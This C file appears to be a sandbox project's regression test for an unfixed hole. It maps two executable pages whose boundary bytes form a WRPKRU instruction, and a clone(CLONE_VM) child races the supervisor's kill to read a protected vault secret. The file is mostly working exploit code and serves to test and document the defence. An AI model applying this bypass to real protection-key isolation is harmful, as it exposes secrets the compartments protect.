// Attacker model B. The supervisor judges a new executable file mapping
// with its executable neighbours once the kernel has made it, and when
// their bytes across an edge make a WRPKRU it kills every process sharing
// the caller's memory, then the caller (runtime/supervisor-exec.c
// judge_edges, kill_with_sharers). Only the caller's threads are stopped
// meanwhile: a clone(CLONE_VM) process runs on. docs/hardening.md calls
// what is left a race "in the moment between the mapping and the kill";
// it is not narrow. The default domain maps A (a sealed memfd page ending
// in 0F 01), starts a clone(CLONE_VM) child that spins on mincore() until
// the page after A is mapped, and maps B (a page starting with EF C3)
// there. The child sees B as soon as the kernel has made it, while the
// supervisor reads the edges and walks /proc, jumps to A's last two bytes
// with eax = ecx = edx = 0, and reads the vault's page before the kill
// comes. Found in the sixth review; reproduced in the QEMU guest (6.1, one
// virtual CPU) as uid 65534.
//
// Tried in session 10 and reverted: the supervisor also stopping every
// process sharing the caller's memory passed this test, but killed an
// honest program (hardening/dlopen-threads.c, in a loaded full run): a
// posix_spawn child between its vfork and its exec is such a process, and
// its parent thread cannot stop until it goes on. Open: judge the edges
// before the call, or stop sharers without deadlocking a vfork.
// XFAIL: *
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 %s -o %t.off
// RUN: %run %t.off | FileCheck %s --check-prefix=OFF
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
// RUN: %run %t.on | FileCheck %s --check-prefix=ON
// OFF: == split-race
// OFF: ATTACK SUCCEEDED: the process sharing the memory, before the kill, read "vault-secret
// ON-NOT: ATTACK SUCCEEDED
// ON: split-race: stopped by signal 9
// ON: attack failed
// ON: parent's vault intact: 1
#include "Inputs/target.h"
#include "Inputs/libc-wrpkru.h"

#include <poll.h>
#include <sched.h>

#ifndef F_ADD_SEALS
#define F_ADD_SEALS 1033
#define F_SEAL_WRITE 0x0008
#endif

static int sealed(const unsigned char *page) {
  int fd = memfd_create("code", MFD_CLOEXEC | MFD_ALLOW_SEALING);
  if (fd < 0 || write(fd, page, 4096) != 4096 || fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE))
    return -1;
  return fd;
}

static int out[2];
static unsigned char *at;
static char stack[65536] __attribute__((aligned(16)));

/* The process sharing the memory: it spins until B is mapped (mincore
 * fails on an unmapped page, without a fault), then jumps to the joint
 * bytes at once. System calls only (it shares the TLS). */
static int sharer(void *parent) {
  (void)parent;
  unsigned char v;
  while (syscall(SYS_mincore, at + 4096, 4096, &v) != 0)
    ;
  static char got[48];
  __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\txorl %%edx, %%edx\n\t"
                   "call *%0\n\t"
                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\tmovl $40, %%ecx\n\trep movsb"
                   :
                   : "r"(at + 4094), "r"(vault_data), "r"(got)
                   : "rax", "rcx", "rdx", "rsi", "rdi", "memory");
  syscall(SYS_write, out[1], got, 40);
  syscall(SYS_exit, 0);
  return 0;
}

static void attack(void) {
  if (drop_to_nobody())
    return;
  /* A ends in 0F 01, B starts with EF C3 (WRPKRU's last byte, ret). */
  static unsigned char a[4096], b[4096];
  memset(a, 0x90, sizeof a); /* nop */
  a[4094] = 0x0f, a[4095] = 0x01;
  memset(b, 0xcc, sizeof b);
  b[0] = 0xff ^ flip, b[1] = 0xc3;
  int fa = sealed(a), fb = sealed(b);
  at = mmap(NULL, 8192, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (fa < 0 || fb < 0 || at == MAP_FAILED || munmap(at, 8192) ||
      mmap(at, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fa, 0) != at) {
    printf("setup: %s\n", strerror(errno));
    return;
  }
  if (clone(sharer, stack + sizeof stack, CLONE_VM | SIGCHLD, (void *)(long)getpid()) < 0) {
    printf("setup: clone: %s\n", strerror(errno));
    return;
  }
  /* The second half: the supervisor kills this process for it. */
  mmap(at + 4096, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fb, 0);
  printf("mapped\n");
}

int main(void) {
  if (pipe(out))
    return 1;
  vault_block = vault_new_block();
  printf("== split-race\n");
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    attack();
    fflush(stdout);
    _exit(0);
  }
  int st;
  if (pid < 0 || waitpid(pid, &st, 0) != pid)
    return 1;
  if (WIFSIGNALED(st))
    printf("split-race: stopped by signal %d\n", WTERMSIG(st));
  else
    printf("split-race: exited %d\n", WEXITSTATUS(st));
  close(out[1]);
  struct pollfd p = {out[0], POLLIN, 0};
  static char got[48];
  errno = 0;
  if (poll(&p, 1, 20000) == 1 && read(out[0], got, 40) == 40)
    report_read("the process sharing the memory, before the kill,", got);
  else
    report_read("the process sharing the memory, before the kill,", NULL);
  printf("parent's vault intact: %d\n", vault_data_intact() && vault_block_intact(vault_block));
  return 0;
}
